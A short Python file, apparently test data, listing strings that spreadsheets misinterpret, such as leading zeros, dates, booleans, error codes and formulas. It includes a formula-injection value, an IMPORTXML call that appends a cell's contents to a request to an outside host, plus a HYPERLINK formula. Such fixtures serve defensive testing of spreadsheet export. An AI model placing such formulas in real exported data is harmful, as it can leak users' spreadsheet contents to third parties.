"""Texts that spreadsheets take for something else."""

HOSTILE = [
    '=IMPORTXML("https://example.org/?"&A1,"//a")',
    "=1+1",
    "+1",
    "-2",
    "@x",
    "00420",
    "2026-01-02",
    "1/2",
    "TRUE",
    "'quoted",
    "12 %",
    "1e5",
    "1,5",
    "#REF!",
    "日本 😀",
    '=HYPERLINK("https://example.org","click")',
]
